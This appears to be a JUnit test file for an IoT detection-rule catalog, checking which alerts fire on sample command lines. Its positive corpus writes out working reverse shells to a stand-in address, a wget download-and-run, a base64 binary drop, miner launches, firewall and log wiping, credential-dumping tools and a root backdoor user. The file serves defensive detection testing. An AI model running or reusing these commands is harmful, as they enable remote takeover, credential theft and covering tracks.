package io.vigil.detection.rules;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.vigil.detection.AlertHit;
import io.vigil.detection.Observation;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** The built-in catalog against the positive and negative corpus of the detection-rule reference, and more. */
class RuleCatalogTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final RuleCatalog CATALOG = RuleCatalog.load(MAPPER, List.of());

    @ParameterizedTest(name = "{0} <- {1}")
    @CsvSource(delimiterString = " <- ", value = {
        "IoT_ReverseShell <- bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "IoT_ReverseShell <- nc -e /bin/sh 203.0.113.5 4444",
        "IoT_ReverseShell <- ncat --sh-exec /bin/bash 203.0.113.5 443",
        "IoT_ReverseShell <- socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.5:4444",
        "IoT_ReverseShell <- python3 -c 'import socket,subprocess,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
        "IoT_ReverseShell <- rm -f /tmp/p; mkfifo /tmp/p; cat /tmp/p|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/p",
        "IoT_CryptoMiner <- ./xmrig -o pool.supportxmr.com:3333 -u WALLET --donate-level=0",
        "IoT_CryptoMiner <- minerd -a cryptonight -o stratum+tcp://xmr.pool.minergate.com:45560",
        "IoT_DisableFirewall <- iptables -F",
        "IoT_DisableFirewall <- iptables -P INPUT ACCEPT",
        "IoT_DisableFirewall <- ufw disable",
        "IoT_DisableFirewall <- systemctl stop firewalld",
        "IoT_DisableFirewall <- nft flush ruleset",
        "IoT_ClearHistoryFile <- history -c",
        "IoT_ClearHistoryFile <- rm ~/.bash_history",
        "IoT_ClearHistoryFile <- cat /dev/null > ~/.bash_history",
        "IoT_ClearHistoryFile <- ln -sf /dev/null ~/.bash_history",
        "IoT_ClearHistoryFile <- export HISTFILESIZE=0",
        "IoT_ReadingHistoryFile <- cat /root/.bash_history",
        "IoT_ReadingHistoryFile <- tail -n 50 /home/pi/.zsh_history",
        "IoT_CredentialAccessTools <- python3 laZagne.py all",
        "IoT_CredentialAccessTools <- ./mimipenguin.sh",
        "IoT_CredentialAccessTools <- unshadow /etc/passwd /etc/shadow",
        "IoT_KnownAttackTools <- nmap -sS 10.0.0.0/24",
        "IoT_KnownAttackTools <- hydra -l root -P rockyou.txt ssh://10.0.0.5",
        "IoT_KnownAttackTools <- masscan -p1-65535 10.0.0.0/8",
        "IoT_PortForwarding <- ssh -R 8080:localhost:22 user@203.0.113.5",
        "IoT_PortForwarding <- ssh -fN -L 5432:db:5432 jump@198.51.100.7",
        "IoT_PortForwarding <- socat TCP-LISTEN:2222,fork TCP:203.0.113.5:22",
        "IoT_BinaryCommandLine <- echo f0VMRgIBAQ | base64 -d > /tmp/.x && chmod +x /tmp/.x && /tmp/.x",
        "IoT_BinaryCommandLine <- echo AAAA | base64 --decode > /dev/shm/a; chmod 777 /dev/shm/a",
        "IoT_CryptoMinerContainer <- docker run -d --name w xmrig/xmrig -o pool.example:3333",
        "IoT_PrivilegedContainer <- docker run --privileged -it alpine sh",
        "IoT_SuspiciousUseradd <- useradd -o -u 0 -g 0 backdoor",
        "IoT_DisableAuditdLogging <- systemctl stop auditd",
        "IoT_RemovelOfSystemLogs <- rm -rf /var/log/auth.log",
        "IoT_DownloadFileThenRun <- wget http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x",
        "IoT_ExposedDocker <- dockerd -H tcp://0.0.0.0:2375",
        "IoT_SuspiciousCompilation <- gcc -o /tmp/exploit /tmp/exploit.c",
        "IoT_SuspiciousNohup <- nohup /tmp/.hidden/run &"})
    void positiveFiresExactlyItsAlert(String alertType, String commandLine) {
        assertThat(types(process(executableOf(commandLine), commandLine, "root")))
                .as(commandLine).containsExactly(alertType);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"nc -zv 10.0.0.1 22", "ncat --version", "bash -c 'echo ok'", "python3 miner_tests.py",
        "grep stratum README.md", "grep stratum+tcp:// notes.txt", "iptables -L -n", "ufw status", "cat ~/.bashrc", "history",
        "cat /etc/hostname", "python3 lazy.py", "nmap --version", "ssh user@10.0.0.2", "ssh -R 8080:localhost:22 user@10.0.0.2",
        "base64 -d cert.b64 > cert.pem", "docker run -d nginx", "useradd -m alice", "systemctl status auditd",
        "ls /var/log", "curl -s http://localhost/health", "gcc -o app main.c"})
    void negativeFiresNothing(String commandLine) {
        assertThat(types(process(executableOf(commandLine), commandLine, "root"))).as(commandLine).isEmpty();
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"python x.sh", "python3 /tmp/.cache/update.sh", "/usr/bin/python3.11 -u payload.pl",
        "bash x.py", "sh /dev/shm/run.py", "/bin/dash -x job.rb", "perl x.py", "perl -w /tmp/a.sh", "node x.py",
        "nodejs /tmp/run.sh", "ruby drop.py", "php -f x.sh", "cd /tmp; python2 stage2.sh",
        "sudo bash /home/pi/tool.py --now", "/usr/bin/env python3 install.SH", "nohup sh /var/tmp/x.js &"})
    void aScriptRunByAnotherLanguagesInterpreterIsAMismatch(String commandLine) {
        assertThat(types(process(executableOf(commandLine), commandLine, "root")))
                .as(commandLine).containsExactly("IoT_ScriptInterpreterMismatch");
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {"python3 script.py", "python3 -m http.server 8000", "python -c 'import os; os.system(\"x.sh\")'",
        "bash ./install.sh", "sh -c \"python3 x.py\"", "sh -c 'run.py'", "bash -c ./run.py", "bash -ec ./job.py",
        "sh install.sh", "perl -e 'print 1' x.py", "perl tool.pl", "node server.js", "node -e 'require(\"x.py\")'",
        "ruby app.rb", "php index.php", "python3 run.py --config a.sh", "bash", "python3", "zsh ~/.zshrc",
        "/opt/venv/bin/python manage.py runserver", "shellcheck x.py", "pythonista x.sh.txt", "cat x.py | python3",
        "git commit -m 'sh x.py'", "bash script.pyramid"})
    void matchingInterpretersAndOtherCommandsAreNoMismatch(String commandLine) {
        assertThat(types(process(executableOf(commandLine), commandLine, "root"))).as(commandLine).isEmpty();
    }

    @Test
    void webShellNeedsTheWebServerUserAndSkipsHealthChecks() {
        assertThat(types(process("/bin/sh", "sh -c id", "www-data"))).containsExactly("IoT_WebShell");
        assertThat(types(process("/bin/bash", "/bin/bash -c whoami", "apache"))).containsExactly("IoT_WebShell");
        assertThat(types(process("/bin/sh", "sh -c /usr/bin/healthcheck", "www-data"))).isEmpty();
        assertThat(types(process("/bin/sh", "sh -c id", "pi"))).isEmpty();
    }

    @Test
    void localLoginsAreTheOnesWithoutARemoteAddress() {
        assertThat(types(login("Success", ""))).containsExactly("IoT_SucessfulLocalLogin");
        assertThat(types(login("Success", "127.0.0.1"))).containsExactly("IoT_SucessfulLocalLogin");
        assertThat(types(login("Fail", ""))).containsExactly("IoT_FailedLocalLogin");
        assertThat(types(login("Success", "203.0.113.9"))).isEmpty();
    }

    @Test
    void evidenceCarriesTheDeviceAndTheCommandLine() {
        AlertHit hit = CATALOG.evaluate(process("/usr/bin/docker", "docker run --privileged alpine", "aUser")).get(0);
        assertThat(hit.evidence().get("DeviceId").asText()).isEqualTo("device-1");
        assertThat(hit.evidence().get("CommandLine").asText()).isEqualTo("docker run --privileged alpine");
        assertThat(hit.evidence().get("User Name").asText()).isEqualTo("aUser");
        assertThat(hit.entities().toString()).contains("\"Type\":\"process\"");
    }

    @Test
    void operatorRuleFilesAddRules(@TempDir Path folder) throws Exception {
        Path file = folder.resolve("mine.json");
        Files.writeString(file, """
                {"rules": [{"id": "no-telnet", "alertType": "Custom_Telnet", "displayName": "Telnet used", "severity": "Low",
                  "event": "ProcessCreate", "when": {"Executable": {"basenameIn": ["telnet"]}}}]}""");
        RuleCatalog catalog = RuleCatalog.load(MAPPER, List.of(file));
        assertThat(catalog.size()).isEqualTo(CATALOG.size() + 1);
        assertThat(catalog.evaluate(process("/usr/bin/telnet", "telnet 10.0.0.1", "root")))
                .extracting(h -> h.definition().alertType()).containsExactly("Custom_Telnet");
    }

    @Test
    void aBrokenRuleFileIsRefusedWithFileRuleAndReason(@TempDir Path folder) throws Exception {
        Path badRegex = folder.resolve("bad-regex.json");
        Files.writeString(badRegex, """
                {"rules": [{"id": "broken", "alertType": "X", "displayName": "X", "severity": "Low", "event": "ProcessCreate",
                  "when": {"CommandLine": {"matchesAny": ["(unclosed"]}}}]}""");
        assertThatThrownBy(() -> RuleCatalog.load(MAPPER, List.of(badRegex)))
                .isInstanceOf(RuleCatalogException.class)
                .hasMessageContaining("bad-regex.json").hasMessageContaining("rule broken")
                .hasMessageContaining("invalid regular expression");

        Path badSeverity = folder.resolve("bad-severity.json");
        Files.writeString(badSeverity, """
                {"rules": [{"id": "loud", "alertType": "X", "displayName": "X", "severity": "Critical", "event": "Login",
                  "when": {"Result": {"equals": "Fail"}}}]}""");
        assertThatThrownBy(() -> RuleCatalog.load(MAPPER, List.of(badSeverity))).hasMessageContaining("rule loud")
                .hasMessageContaining("severity must be one of");

        Path unknownTest = folder.resolve("unknown-test.json");
        Files.writeString(unknownTest, """
                {"rules": [{"id": "odd", "alertType": "X", "displayName": "X", "severity": "Low", "event": "Login",
                  "when": {"Result": {"startsWith": "F"}}}]}""");
        assertThatThrownBy(() -> RuleCatalog.load(MAPPER, List.of(unknownTest))).hasMessageContaining("unknown field test 'startsWith'");

        Path duplicate = folder.resolve("duplicate.json");
        Files.writeString(duplicate, """
                {"rules": [{"id": "reverse-shell", "alertType": "X", "displayName": "X", "severity": "Low", "event": "Login",
                  "when": {"Result": {"equals": "Fail"}}}]}""");
        assertThatThrownBy(() -> RuleCatalog.load(MAPPER, List.of(duplicate))).hasMessageContaining("the id is used twice");

        Path notJson = folder.resolve("not-json.json");
        Files.writeString(notJson, "rules: []");
        assertThatThrownBy(() -> RuleCatalog.load(MAPPER, List.of(notJson))).hasMessageContaining("not-json.json")
                .hasMessageContaining("not a rule file");
    }

    private static List<String> types(Observation observation) {
        return CATALOG.evaluate(observation).stream().map(h -> h.definition().alertType()).toList();
    }

    private static String executableOf(String commandLine) {
        String first = commandLine.trim().split("\\s+")[0];
        return first.startsWith("/") ? first : "/usr/bin/" + first.replace("./", "");
    }

    static Observation process(String executable, String commandLine, String user) {
        ObjectNode item = MAPPER.createObjectNode().put("Executable", executable).put("CommandLine", commandLine)
                .put("UserName", user).put("UserId", "0").put("ProcessId", 4242).put("ParentProcessId", 1);
        return new Observation("hub", "device-1", "e-1", "ProcessCreate", Instant.now(), item);
    }

    static Observation login(String result, String remoteAddress) {
        ObjectNode item = MAPPER.createObjectNode().put("Executable", "/bin/login").put("Operation", "PAM:authentication")
                .put("UserName", "pi").put("ProcessId", 100).put("Result", result);
        if (!remoteAddress.isEmpty()) {
            item.put("RemoteAddress", remoteAddress);
        }
        return new Observation("hub", "device-1", "e-2", "Login", Instant.now(), item);
    }
}
